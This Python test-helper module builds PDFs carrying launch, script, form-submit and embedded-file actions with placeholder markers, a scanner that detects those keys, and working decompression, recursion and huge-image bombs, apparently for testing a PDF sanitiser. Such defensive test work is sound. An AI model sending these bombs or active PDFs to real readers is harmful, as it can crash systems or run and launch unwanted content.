"""PDFs that would do something when they are opened, each in one way; and a look into a PDF that finds such things."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

MARK = "EVILMARK"  # stands in everything that is active
SCRIPT = f"app.alert('{MARK}')"
TEXT = "Kommunen har truffet afgørelse om merudgifter efter loven"
BOX = Array([50, 50, 200, 80])


def document(*texts: str) -> Pdf:
    """A page for each text."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding))
    for text in texts or (TEXT,):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj["/Resources"] = Dictionary(Font=Dictionary(F1=font))
        lines = "".join(f"({line}) Tj 0 -16 Td " for line in text.split("\n"))
        page.obj["/Contents"] = pdf.make_stream(f"BT /F1 12 Tf 60 780 Td {lines}ET".encode("cp1252"))
    return pdf


def written(pdf: Pdf, **options: Any) -> bytes:
    """The same bytes each time, unless it is encrypted."""
    options = options if "encryption" in options else {"deterministic_id": True} | options
    out = io.BytesIO()
    pdf.save(out, fix_metadata_version=False, **options)
    return out.getvalue()


def plain(*texts: str) -> bytes:
    return written(document(*texts))


def js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def file_of(pdf: Pdf, name: str = f"{MARK}.exe") -> Dictionary:
    inside = pdf.make_stream(f"MZ {MARK}".encode(), Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=inside)))


def mark(pdf: Pdf, subtype: str, **fields: Any) -> None:
    """Lay an annotation on the first page."""
    made = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=BOX, **fields))
    pdf.pages[0].obj["/Annots"] = Array([made])


def field(pdf: Pdf, **fields: Any) -> None:
    """A form with one text field on the first page."""
    mark(pdf, "Widget", FT=Name.Tx, T=String("Felt"), V=String("Svar"), **fields)
    pdf.Root["/AcroForm"] = Dictionary(Fields=Array([pdf.pages[0].obj["/Annots"][0]]))


def outline(pdf: Pdf, **fields: Any) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Kapitel"), **fields))
    root = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item["/Parent"] = root
    pdf.Root["/Outlines"] = root


def root(pdf: Pdf, **fields: Any) -> None:
    for key, value in fields.items():
        pdf.Root[f"/{key}"] = value


def action(kind: str, **fields: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **fields)


def on_tree(pdf: Pdf) -> None:
    pdf.Root.Pages["/AA"] = Dictionary(O=js())


def in_resources(pdf: Pdf) -> None:
    """Where drawing looks, under keys that drawing does not know."""
    page = pdf.pages[0].obj
    look = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=BOX, AA=Dictionary(O=js()), PieceInfo=Dictionary(X=js()))
    page.Resources["/XObject"] = Dictionary(X1=look)
    page.Resources["/Properties"] = Dictionary(P1=Dictionary(AF=Array([file_of(pdf)]), A=js()))
    page.Resources.Font.F1["/A"] = js()
    page["/PieceInfo"] = Dictionary(X=js())
    page["/B"] = Array([Dictionary(A=js())])


def from_outside(pdf: Pdf) -> None:
    """An image whose bytes are fetched from a file."""
    picture = pdf.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, ColorSpace=Name.DeviceGray)
    picture["/BitsPerComponent"], picture["/F"] = 8, Dictionary(Type=Name.Filespec, F=String(f"//server/{MARK}"))
    pdf.pages[0].obj.Resources["/XObject"] = Dictionary(X1=picture)


def in_a_look(pdf: Pdf) -> None:
    """Behind how a comment is drawn."""
    look = pdf.make_stream(b"", Subtype=Name.Form, BBox=BOX, Resources=Dictionary(XObject=Dictionary(X=pdf.make_stream(b"", A=js()))))
    mark(pdf, "Stamp", AP=Dictionary(N=look, D=pdf.make_stream(b"", A=js())), Popup=pdf.make_indirect(Dictionary(A=js())))


KINDS: dict[str, Callable[[Pdf], None]] = {
    "script at opening": lambda pdf: root(pdf, OpenAction=js()),
    "script at events of the document": lambda pdf: root(pdf, AA=Dictionary(WC=js(), WS=js())),
    "script at events of a page": lambda pdf: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=js(), C=js())),
    "script at events of the tree of pages": on_tree,
    "script behind a link": lambda pdf: mark(pdf, "Link", A=js()),
    "script at events of a mark": lambda pdf: mark(pdf, "Square", AA=Dictionary(E=js(), PV=js())),
    "script at events of a field": lambda pdf: field(pdf, AA=Dictionary(K=js(), F=js())),
    "script behind a button": lambda pdf: field(pdf, A=js()),
    "chain of actions": lambda pdf: mark(pdf, "Link", A=action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([js(), js()]))),
    "chain at opening": lambda pdf: root(pdf, OpenAction=action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=js())),
    "launch": lambda pdf: mark(pdf, "Link", A=action("Launch", F=String(f"{MARK}.exe"), Win=Dictionary(F=String(MARK), P=String("/c")))),
    "submit form": lambda pdf: field(pdf, A=action("SubmitForm", F=Dictionary(FS=Name.URL, F=String(f"http://{MARK}")))),
    "import data": lambda pdf: field(pdf, A=action("ImportData", F=String(MARK))),
    "go to another file": lambda pdf: mark(pdf, "Link", A=action("GoToR", F=String(f"//server/{MARK}.pdf"), D=Array([0, Name.Fit]))),
    "go to an embedded file": lambda pdf: mark(pdf, "Link", A=action("GoToE", T=Dictionary(R=Name.C, N=String(MARK)))),
    "address of a file": lambda pdf: mark(pdf, "Link", A=action("URI", URI=String(f"file:///c:/{MARK}"))),
    "embedded file": lambda pdf: root(pdf, Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), file_of(pdf)])))),
    "attached file on a page": lambda pdf: mark(pdf, "FileAttachment", FS=file_of(pdf)),
    "associated file": lambda pdf: root(pdf, AF=Array([file_of(pdf)])),
    "rich media": lambda pdf: mark(pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a"), file_of(pdf)])))),
    "movie": lambda pdf: mark(pdf, "Movie", Movie=Dictionary(F=file_of(pdf)), A=True),
    "sound": lambda pdf: mark(pdf, "Sound", Sound=pdf.make_stream(MARK.encode(), R=8000)),
    "rendition": lambda pdf: mark(pdf, "Screen", A=action("Rendition", JS=String(SCRIPT), OP=0)),
    "three dimensions": lambda pdf: mark(pdf, "3D", **{"3DD": pdf.make_stream(b"", OnInstantiate=pdf.make_stream(SCRIPT.encode()))}),
    "XFA": lambda pdf: root(pdf, AcroForm=Dictionary(Fields=Array([]), XFA=pdf.make_stream(f"<xdp><script>{SCRIPT}</script></xdp>".encode()))),
    "script behind a bookmark": lambda pdf: outline(pdf, A=js()),
    "script among the names": lambda pdf: root(pdf, Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), js()])))),
    "hidden in what is drawn": in_resources,
    "image from outside": from_outside,
    "hidden behind a look": in_a_look,
    "script in metadata": lambda pdf: root(pdf, Metadata=pdf.make_stream(f"<x>{SCRIPT}</x>".encode(), Type=Name.Metadata, Subtype=Name.XML)),
    "web capture": lambda pdf: root(pdf, SpiderInfo=Dictionary(C=Array([js()])), URI=Dictionary(Base=String(f"http://{MARK}"))),
}  # fmt: skip


def active(kind: str) -> bytes:
    """A PDF that is active in this way."""
    pdf = document()
    KINDS[kind](pdf)
    return written(pdf)


# What to look for afterwards

STARTING = {
    "/JS", "/JavaScript", "/AA", "/OpenAction", "/EF", "/EmbeddedFiles", "/EmbeddedFile", "/XFA", "/AF", "/RichMediaContent", "/Movie",
    "/Sound", "/3DD", "/OnInstantiate", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/URI", "/Rendition", "/RichMedia",
    "/FileAttachment", "/Screen", "/Next", "/PieceInfo", "/AcroForm", "/Names", "/Metadata", "/SpiderInfo",
}  # fmt: skip
DOING = {  # as what something is
    "/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/URI", "/Rendition", "/RichMedia", "/FileAttachment",
    "/Screen", "/Movie", "/Sound", "/EmbeddedFile", "/3D", "/Widget",
}  # fmt: skip
INNOCENT = {"/Next"}  # bookmarks are a chain too


NAMED = {"/Font", "/XObject", "/ExtGState", "/ColorSpace", "/Pattern", "/Shading", "/CharProcs"}  # hold things under any name


def active_parts(content: bytes, *, in_streams: bool = True) -> set[str]:
    """Keys and kinds that start something, or the planted mark, anywhere in what can be reached; bookmarks may be chained.

    Not `in_streams` where an accident may have made a script the drawing of a page: its words stand there, and start nothing.
    """
    with Pdf.open(io.BytesIO(content)) as pdf:
        found = set()
        for one in pdf.objects:
            for key, value in _all(one):
                if key in STARTING and not (key in INNOCENT and isinstance(value, Dictionary) and "/Title" in value):
                    found.add(key)
                if isinstance(value, Name) and value.unparse().decode("latin-1") in DOING:
                    found.add(value.unparse().decode("latin-1"))
                if isinstance(value, String) and MARK in str(value):
                    found.add(MARK)
                if in_streams and isinstance(value, Stream) and MARK.encode() in _bytes(value):
                    found.add(MARK)
        return found


def _all(thing: Any, key: str = "", depth: int = 0) -> Iterator[tuple[str, Any]]:
    """(the key it stands under, the thing), for it and all that lies directly in it."""
    yield key, thing
    if depth > 60:
        return
    if isinstance(thing, (Dictionary, Stream)):
        for name in thing.keys():  # noqa: SIM118 - a pikepdf dictionary is no dict
            inner, name = thing[name], "" if key in NAMED else name
            if depth == 0 or not (isinstance(inner, pikepdf.Object) and inner.is_indirect):
                yield from _all(inner, name, depth + 1)
            else:
                yield name, None
    elif isinstance(thing, Array):
        for inner in thing:
            if not (isinstance(inner, pikepdf.Object) and inner.is_indirect):
                yield from _all(inner, key, depth + 1)


def _bytes(stream: Stream) -> bytes:
    try:
        return stream.read_bytes()
    except pikepdf.PdfError:
        return stream.read_raw_bytes()


# Bombs


def deflated(size: int, unit: bytes = b" ") -> bytes:
    """`size` bytes, deflated twice over to a few kilobytes: one block of deflate again and again, and then that."""
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = unit * (1024 * 1024 // len(unit))
    packed = machine.compress(block) + machine.flush(zlib.Z_FULL_FLUSH)
    return zlib.compress(b"\x78\xda" + packed * (size // len(block)) + b"\x03\x00\0\0\0\0", 9)


def of_objects(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a table that says where they are."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def stream(content: bytes, keys: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n" % (len(content), keys) + content + b"\nendstream"


def page_of(content: bytes, *more: bytes, resources: bytes = b"<<>>") -> bytes:
    """One page that draws the stream `content` (object 4)."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources%s>>" % resources
    return of_objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, content, *more)


def content_bomb(size: int = 2 * 1024**3) -> bytes:
    """What the page draws takes `size` bytes when it is unpacked."""
    return page_of(stream(deflated(size), b"/Filter[/FlateDecode/FlateDecode]"))


def object_bomb(size: int = 2 * 1024**3) -> bytes:
    """A stream of objects that takes `size` bytes when it is unpacked; it is read when the document is opened."""
    packed = stream(deflated(size), b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]")
    table = zlib.compress(b"\0\0\0\0\0\xff" + b"\2\0\0\0\2\0" + b"\1\0\0\0\x09\0")
    body = b"%PDF-1.7\n2 0 obj\n" + packed + b"\nendobj\n"
    table_object = stream(table, b"/Type/XRef/Size 3/W[1 4 1]/Root 1 0 R/Filter/FlateDecode")
    return body + b"3 0 obj\n" + table_object + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def time_bomb(levels: int = 12, wide: int = 10) -> bytes:
    """Drawings in drawings: each draws the next ten times."""
    forms = [
        stream(b"/X Do " * wide, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (number + 1))
        for number in range(5, 5 + levels)
    ]
    last = stream(b"0 0 m 9 9 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return page_of(stream(b"/X Do"), *forms, last, resources=b"<</XObject<</X 5 0 R>>>>")


def many_pages(number: int) -> bytes:
    """One page, so many times over in the tree of pages."""
    kids = b" ".join(b"%d 0 R" % (number_ + 3) for number_ in range(number))
    pages = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * number
    return of_objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, number), *pages)


def picture_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """An image of so many pixels on a page."""
    keys = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode" % (width, height)
    image = stream(zlib.compress(b"\0" * 1000), keys)
    return page_of(stream(b"/X Do"), image, resources=b"<</XObject<</X 5 0 R>>>>")


def slow(lines: int = 3_000_000) -> bytes:
    """A page on which so much stands that reading it takes seconds."""
    return page_of(stream(zlib.compress(b"BT /F1 9 Tf 1 0 0 1 9 9 Tm (abcdefgh) Tj ET\n" * lines, 1), b"/Filter/FlateDecode"))
